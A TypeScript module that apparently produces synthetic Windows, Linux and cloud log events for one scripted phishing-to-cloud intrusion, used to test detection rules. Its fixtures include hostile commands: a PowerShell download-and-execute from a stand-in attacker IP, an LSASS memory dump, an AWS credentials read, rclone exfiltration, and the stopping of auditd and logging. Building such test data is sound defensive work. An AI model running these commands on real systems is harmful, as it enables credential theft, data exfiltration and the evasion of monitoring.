/**
 * Scripted intrusions: steps at fixed minutes after their begin. Data on the page of a detection engineer: each step
 * says which technique it shows, and a test says which of the rules that come along report it.
 */
import type { CloudWriter } from './cloud.ts';
import { backupAccount, domainController, domainSid, fileServer, workstations } from './company.ts';
import type { LinuxWriter } from './linux.ts';
import { system32, systemUser, userName, type WindowsWriter } from './windows.ts';

export type Stream = 'windows' | 'linux' | 'cloud';

export interface Writers {
  readonly windows: WindowsWriter;
  readonly linux: LinuxWriter;
  readonly cloud: CloudWriter;
}

export interface Step {
  /** Minutes after the begin. */
  readonly minute: number;
  readonly stream: Stream;
  /** ATT&CK. */
  readonly technique: string;
  readonly lines: (at: number, writers: Writers) => readonly string[];
}

export interface Intrusion {
  readonly title: string;
  /** Ordered by minute. */
  readonly steps: readonly Step[];
}

const [victim] = workstations;
const cmd = `${system32}cmd.exe`;
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const attacker = '203.0.113.77';

const phishingToCloud: Intrusion = {
  title: 'A mailed document, stolen credentials, the file server copied away, and a step into the cloud account.',
  steps: [
    {
      minute: 0,
      stream: 'windows',
      technique: 'T1204.002',
      lines: (at, { windows }) => {
        const user = userName(victim.user);
        const parent = windows.process(
          word,
          user,
          `"${word}" /n "C:\\Users\\${victim.user.login}\\Downloads\\invoice.docm"`,
        );
        const child = windows.process(
          powershell,
          user,
          'powershell.exe -NoP -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA',
        );
        return [windows.created(at, victim, child, parent), windows.connected(at + 900, victim, child, '-', attacker)];
      },
    },
    {
      minute: 1,
      stream: 'windows',
      technique: 'T1059.001',
      lines: (at, { windows }) => [
        windows.event(at, victim, 'powershell', 4104, {
          MessageNumber: '1',
          MessageTotal: '1',
          ScriptBlockText: `IEX(New-Object Net.WebClient).DownloadString('http://${attacker}/a')`,
          ScriptBlockId: '6f1d2c3b-0000-4000-8000-00000000c001',
          Path: '',
        }),
      ],
    },
    {
      minute: 9,
      stream: 'windows',
      technique: 'T1547.001',
      lines: (at, { windows }) => [
        windows.sysmon(at, victim, 13, {
          EventType: 'SetValue',
          ...windows.of(windows.process(powershell, userName(victim.user))),
          TargetObject: `HKU\\${victim.user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater`,
          Details: `C:\\Users\\${victim.user.login}\\AppData\\Roaming\\upd\\upd.exe`,
        }),
      ],
    },
    {
      minute: 14,
      stream: 'windows',
      technique: 'T1069.002',
      lines: (at, { windows }) => {
        const shell = windows.process(cmd, userName(victim.user));
        const made = windows.process(`${system32}net.exe`, shell.user, 'net  group "Domain Admins" /domain');
        return [windows.created(at, victim, made, shell)];
      },
    },
    {
      minute: 31,
      stream: 'windows',
      technique: 'T1003.001',
      lines: (at, { windows }) => {
        const shell = windows.process(cmd, systemUser);
        const line = `rundll32.exe ${system32}comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full`;
        return [windows.created(at, victim, windows.process(`${system32}rundll32.exe`, systemUser, line), shell)];
      },
    },
    {
      minute: 46,
      stream: 'windows',
      technique: 'T1569.002',
      lines: (at, { windows }) => [
        windows.loggedOn(at, fileServer, backupAccount, victim.ip),
        windows.event(at + 400, fileServer, 'system', 7045, {
          ServiceName: 'WinHelp',
          ImagePath: '%COMSPEC% /c start /b C:\\ProgramData\\svhost.exe',
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        }),
      ],
    },
    {
      minute: 58,
      stream: 'windows',
      technique: 'T1098',
      lines: (at, { windows }) => [
        windows.event(at, domainController, 'security', 4728, {
          ...windows.subjectOf(backupAccount),
          MemberName: 'CN=helpdesk2,CN=Users,DC=harbor,DC=example',
          MemberSid: `${domainSid}-1190`,
          TargetUserName: 'Domain Admins',
          TargetDomainName: 'HARBOR',
          TargetSid: `${domainSid}-512`,
          PrivilegeList: '-',
        }),
      ],
    },
    {
      minute: 72,
      stream: 'windows',
      technique: 'T1567.002',
      lines: (at, { windows }) => {
        const line = 'svhost.exe copy D:\\Finance store:fin --config C:\\ProgramData\\c.conf --transfers 12';
        const made = windows.process('C:\\ProgramData\\svhost.exe', systemUser, line);
        const facts = {
          OriginalFileName: 'rclone.exe',
          Company: 'https://rclone.org',
          Description: 'Rsync for cloud storage',
        };
        return [windows.created(at, fileServer, made, windows.process(cmd, systemUser), facts)];
      },
    },
    {
      minute: 88,
      stream: 'linux',
      technique: 'T1036.005',
      lines: (at, { linux }) => [
        ...linux.exec(at - 9000, 'web01', 'deploy', '/usr/bin/cat', ['cat', '/home/deploy/.aws/credentials']),
        ...linux.exec(at, 'web01', 'deploy', '/dev/shm/.k/agent', ['/dev/shm/.k/agent', '-c', attacker]),
      ],
    },
    {
      minute: 91,
      stream: 'linux',
      technique: 'T1562.012',
      lines: (at, { linux }) => linux.exec(at, 'web01', 'root', '/usr/bin/systemctl', ['systemctl', 'stop', 'auditd']),
    },
    {
      minute: 97,
      stream: 'cloud',
      technique: 'T1098.001',
      lines: (at, { cloud }) => [
        cloud(at, {
          user: 'deploy-web',
          service: 'iam',
          name: 'CreateAccessKey',
          from: '198.51.100.143',
          request: { userName: 'svc-report' },
          more: { responseElements: { accessKey: { userName: 'svc-report', status: 'Active' } } },
        }),
      ],
    },
    {
      minute: 104,
      stream: 'cloud',
      technique: 'T1562.008',
      lines: (at, { cloud }) => [
        cloud(at, {
          user: 'deploy-web',
          service: 'cloudtrail',
          name: 'StopLogging',
          from: '198.51.100.143',
          request: { name: 'main' },
          more: {
            errorCode: 'AccessDenied',
            errorMessage: 'User is not authorized to perform: cloudtrail:StopLogging',
          },
        }),
      ],
    },
    {
      minute: 112,
      stream: 'windows',
      technique: 'T1685.005',
      lines: (at, { windows }) => [
        windows.event(
          at,
          fileServer,
          'eventlog',
          1102,
          {},
          { user_data: { ...windows.subjectOf(backupAccount), xml_name: 'LogFileCleared' } },
        ),
      ],
    },
  ],
};

export const intrusions = { 'phishing-to-cloud': phishingToCloud } as const satisfies Record<string, Intrusion>;
export type IntrusionName = keyof typeof intrusions;
export const intrusionNames = Object.keys(intrusions) as [IntrusionName, ...IntrusionName[]];
